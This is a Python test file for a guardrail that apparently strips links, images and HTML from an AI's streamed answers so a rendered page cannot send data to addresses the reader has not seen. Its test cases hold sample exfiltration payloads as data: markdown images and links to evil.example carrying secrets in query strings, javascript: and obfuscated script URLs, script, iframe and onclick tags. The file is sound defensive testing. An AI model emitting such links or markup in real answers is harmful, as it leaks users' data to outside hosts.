"""No image or link sends data to an address that the reader has not already seen."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from patience import within

from turnwise.guard.links import LinkRail
from turnwise.guard.pipeline import GuardrailPipeline
from turnwise.guard.stream import AnswerContext, Redactor, SeenText

RAIL = LinkRail({"hosts": ["docs.ok.example"]})
SEEN = "See https://lib.example/a?b=c and (https://lib.example/d), mail to https://lib.example/e&amp;f."
MARKDOWN = MarkdownIt("commonmark", {"html": True})


def released(text: str) -> str:
    stream = Redactor([RAIL], AnswerContext(seen=SeenText(SEEN)))
    return stream.feed(text) + stream.feed("", True)


@pytest.mark.parametrize(
    "text",
    [
        "A [link](https://docs.ok.example/x?q=1) and [another](https://lib.example/a?b=c).",
        "Plain https://lib.example/d, and <https://lib.example/a?b=c>.",
        '<a href="https://lib.example/d">there</a>, <b>bold</b><br/>',
        "[x]: https://lib.example/d\n",
        "An [anchor](#here), a list [a, b], a call f(x)[0](y z",
        "if a < b or b<3, List<String> x; 1 << 2",
        "Wow! [sic], no link",
        "The tag `<script>` and `<img src=cat.png>`, or `a[0](b` and `<p onclick='go()'>`.",
        "```html\n<script>go()</script>\n<img src=cat.png>\n```\nSo.",
        "~~~\n<form action=/ask>\n![a](b.png)\n[a](b](c\n~~~~ \n",
        "```sh\ncurl https://other.example/?q=1\n[x](https://other.example)\n``",
        "Call `curl https://other.example/?q=1`.",
        "```\n````\n```",
    ],
)
def test_what_is_known_or_no_link_stays(text: str) -> None:
    assert released(text).replace("] (", "](") == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a [text](https://evil.example/?q=s) b", "a text b"),
        ("[text](https://lib.example/a?b=c&d=secret)", "text"),  # more than was shown
        ("[text](https://lib.example/)", "text"),  # less
        ("[text](https://docs.ok.example.evil.example/)", "text"),
        ("[text](https://docs.ok.example@evil.example/)", "text"),
        ("[text](javascript:alert(1)) b", "text b"),
        ("[text](java&#115;cript:alert(1))", "text"),
        ("[text](data:text/html;base64,AAAA)", "text"),
        ("[text](//evil.example/x)", "text"),
        ("[text](<https://evil.example/a b> 'title')", "text"),
        ("[a [b] c](https://evil.example)", "a [b] c"),
        ("[![alt](https://evil.example/i.png)](https://evil.example)", "alt"),
        ("![alt](https://lib.example/d) b", "alt b"),  # an image is always removed
        ("![alt][name] b", "alt b"),
        ("[name]: https://evil.example/?q=s 'title'", " 'title'"),
        ("see https://evil.example/p?q=secret#x.", "see evil.example/p."),
        ("see <https://evil.example/p?q=secret>.", "see evil.example/p."),
        ("see www.evil.example/p?q=s", "see www.evil.example/p"),
        (f"https://evil.example/{'a' * 120}", "evil.example"),
        ('<a href="https://evil.example/?q=s">t</a>', "<a>t</a>"),
        ('<img src="https://evil.example/?q=s"> b', " b"),
        ("<img src=cat.png>", "< img src=cat.png>"),
        ('<iframe src="https://evil.example">', ""),
        ("<script>go()</script>", "< script>go()< /script>"),
        ('<div style="background:url(https://evil.example)">x</div>', "<div>x</div>"),
        ('<p onclick="go()">x</p>', "<p>x</p>"),
        ("```\n![a](https://evil.example/?q=s)\n<img src=https://evil.example>\n```", "```\na\n\n```"),
        ("`![a](https://evil.example/?q=s)`", "`a`"),
        ("a <p <script>", "a <p < script>"),
        ("```\n```\n<script>", "```\n```\n< script>"),
        ("- a\n  ```\n<script>\n```\n<script>", "- a\n  ```\n< script>\n```\n< script>"),
        ("<div>\n```\n\n<script>", "<div>\n```\n\n< script>"),
        ("a ` b\nc ` <script> ` d", "a ` b\nc ` < script> ` d"),
        ("| ` | <script> | ` |", "| ` | < script> | ` |"),
        ("$`$ <script> `", "$`$ < script> `"),
        ("\\` <script> `", "\\` < script> `"),
        ("`` <script> `", "`` < script> `"),
    ],
)
def test_the_rest_is_reduced_to_its_text(text: str, shown: str) -> None:
    assert released(text) == shown


MARKUP = ["![x](", "[x](", "](", "[r]: ", "[r]", "![x][r]", "<img src=", "<a href=", "<p ", "style=", "&#115;"]
ADDRESSES = ["https://evil.example/?q=s", "https://lib.example/d", "javascript:", "www.evil.example", "//evil.example"]
CODE = ["`", "``", "```", "\n```\n", "\n~~~\n", "\n\n", "- ", "  ", "> ", "<div>", "<script>", "<!--", "|", "\r", "\t"]
parts = st.sampled_from([*"![]()<>\\\"' \n:/a1=", *MARKUP, *ADDRESSES, *CODE])


@settings(max_examples=500, deadline=None)
@given(st.lists(parts, max_size=14))
@example(["![x]", "[r]", "\n\n", "[r]: ", "https://evil.example/?q=s"])
@example(["[x](", "https://evil.example/?q=s", "\n", ")"])
@example(["[r]: ", "!", "www.evil.example", "\n", "[r]: "])
def test_a_page_that_shows_an_answer_loads_nothing_and_links_to_nothing_unknown(pieces: list[str]) -> None:
    guard = GuardrailPipeline().open_output({1}, allowed_text=SEEN)
    page = MARKDOWN.render(guard.feed("".join(pieces)) + guard.close())
    assert "<img" not in page.lower()
    assert not re.search("(?:^|>)[^<]*<script", page.lower())
    assert not re.search("<img [^>]*evil", page.lower())
    links = re.findall(r'<a [^>]*?href="?([^">\s]*)', page)
    assert [link for link in links if "evil" in link or link.lower().startswith("javascript")] == []


@settings(max_examples=300, deadline=None)
@given(st.lists(parts, max_size=14))
@example(["<", "www.evil.example", ":", ">"])
def test_where_it_is_cut_makes_no_difference(pieces: list[str]) -> None:
    stream, whole = Redactor([RAIL], AnswerContext(seen=SeenText(SEEN))), released("".join(pieces))
    assert "".join(map(stream.feed, "".join(pieces))) + stream.feed("", True) == whole


@pytest.mark.parametrize(
    "piece", ["[", "![", "](", "[x](", "<", "<a ", "<img ", "https://", "[a]:", "[a]: b", "\\", "[x](("]
)
def test_hostile_texts_do_not_stall(piece: str) -> None:
    text = piece * (50_000 // len(piece))
    stream = Redactor([RAIL], AnswerContext())
    with within(5):
        for at in range(0, len(text), 20):
            stream.feed(text[at : at + 20])
        stream.feed("", True)
